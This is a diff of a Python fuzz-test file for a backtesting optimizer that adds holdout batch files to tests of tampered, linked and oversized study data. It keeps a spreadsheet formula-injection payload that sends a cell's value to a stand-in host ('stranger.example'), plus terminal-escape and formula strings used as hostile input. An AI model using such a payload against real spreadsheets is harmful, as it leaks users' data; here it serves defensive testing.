@@ -34,10 +34,17 @@ from optimizer.errors import BarsweepError
 from optimizer.review.notebook import study_html
 from optimizer.search.run import run_study
 from optimizer.store import batch_files, ledger
-from optimizer.store.batch_files import MAXIMA_KEY, MOMENTS_KEY, TRIALS_KEY, parquet_file
+from optimizer.store.batch_files import (
+    HOLDOUT_KEY,
+    MAXIMA_KEY,
+    MOMENTS_KEY,
+    TRIALS_KEY,
+    parquet_file,
+)
 from optimizer.store.batches import read_batch, read_results
 from optimizer.store.export import export_sets
 from optimizer.store.folder import StudyFolder
+from optimizer.store.ledger_entries import Search
 from optimizer.store.validated import MOST_BYTES, read_text
 from tests.support.command import barsweep
 from tests.support.studies import mapping, random_bars, small_study, write_bars
@@ -345,6 +352,7 @@ def swaps(home: Home) -> dict[str, Callable[[Path], object]]:
         "a manifest": copied("out/study.json"),
         "a batch": copied("out/results/batch-000001.parquet"),
         "moments": copied("out/moments/batch-000001.npy"),
+        "a holdout": copied("out/holdout/batch-000001.parquet"),
         "a selection": copied("out/selection.json"),
         "a journal": copied("out/optuna.journal"),
         "bars": copied("data/bars.parquet"),
@@ -388,7 +396,8 @@ def test_every_file_swapped(fuzz: Fuzz) -> None:
 @pytest.mark.skipif(sys.platform == "win32", reason="links of POSIX")
 @pytest.mark.parametrize(
     "name",
-    ["results", "moments", "folds", "shared-123-0123abcd", "study.json.part", "optuna.journal",
+    ["results", "moments", "holdout", "unsealed.json", "folds", "shared-123-0123abcd",
+     "study.json.part", "optuna.journal",
      "results/batch-000000.parquet", "results/x.parquet.part", "selection.json",
      "shared-123-0123abcd/link"],
 )  # fmt: skip
@@ -517,7 +526,7 @@ def test_a_crafted_batch(case: str, fuzz: Fuzz) -> None:
         change = TRIALS[case.removeprefix("trials: ")]
         trials = [change(one) for one in json.loads(metadata[TRIALS_KEY])]
         metadata[TRIALS_KEY] = json.dumps(trials).encode()
-    kept = {key: metadata[key] for key in (TRIALS_KEY, MOMENTS_KEY, MAXIMA_KEY)}
+    kept = {key: metadata[key] for key in BATCH_KEYS}
     path.write_bytes(parquet_file(table.replace_schema_metadata(kept)))
     fuzz.run(case, OF_STUDY)
     for page in ("report.html", "heatmap-lookback-kelly_fraction.html"):
@@ -526,13 +535,15 @@ def test_a_crafted_batch(case: str, fuzz: Fuzz) -> None:
     fuzz.check()
 
 
+BATCH_KEYS = (TRIALS_KEY, MOMENTS_KEY, HOLDOUT_KEY, MAXIMA_KEY)
+
 FORMULA = '=HYPERLINK("http://stranger.example/"&A1,"x")'
 
 
 def rewritten(path: Path, frame: Any) -> None:
     """A batch of other rows, with a right checksum."""
     table = pq.read_table(path)
-    metadata = {key: table.schema.metadata[key] for key in (TRIALS_KEY, MOMENTS_KEY, MAXIMA_KEY)}
+    metadata = {key: table.schema.metadata[key] for key in BATCH_KEYS}
     crafted = pa.Table.from_pandas(frame, preserve_index=False)
     path.write_bytes(parquet_file(crafted.replace_schema_metadata(metadata)))
 
@@ -591,7 +602,10 @@ def test_more_rows_than_sets_are_not_read(fuzz: Fuzz, monkeypatch: pytest.Monkey
 
 
 @pytest.mark.skipif(sys.platform == "win32", reason="sparse files")
-@pytest.mark.parametrize("name", ["results/batch-000001.parquet", "moments/batch-000001.npy"])
+@pytest.mark.parametrize(
+    "name",
+    ["results/batch-000001.parquet", "moments/batch-000001.npy", "holdout/batch-000001.parquet"],
+)
 def test_a_file_of_any_size_takes_no_memory(name: str, fuzz: Fuzz) -> None:
     path = fuzz.home.path / "out" / name
     before = path.read_bytes()
@@ -700,7 +714,7 @@ def test_a_ledger_of_other_content(fuzz: Fuzz, monkeypatch: pytest.MonkeyPatch) 
     monkeypatch.setenv("BARSWEEP_LEDGER", str(place))
     fuzz.add("ledger", ["ledger"])
     strange = ["", MARKUP, CLOSING, "\x7f\x9b2J", "x" * 100_000, "=1+1"]
-    what = ledger.Search(
+    what = Search(
         "0" * 64, "1" * 64, "study", "bars.parquet", ("AAA",), 86_400 * 10**9, 0, 10**18, 3
     )
     for kind in (*strange, None, -1, 2**63 - 1, 1e308, float("inf"), b"\xff\xfe"):
